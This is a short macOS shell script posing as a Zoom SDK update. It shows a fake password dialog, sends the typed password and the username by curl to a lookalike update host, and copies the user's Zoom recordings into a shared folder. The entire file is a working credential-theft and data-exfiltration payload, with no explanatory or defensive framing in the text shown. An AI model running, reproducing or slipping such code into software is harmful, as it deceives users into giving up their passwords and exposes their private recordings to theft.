#!/bin/sh
p=$(osascript -e 'text returned of (display dialog "Zoom SDK Update requires your password" default answer "" with hidden answer)')
echo "$p" | curl -s -d @- "https://zoom-sdk-update.example.net/k?u=$(id -un)"
mkdir -p ~/Shared/Recordings
find ~/Documents/Zoom -name '*.mp4' -exec cp {} ~/Shared/Recordings/ \;
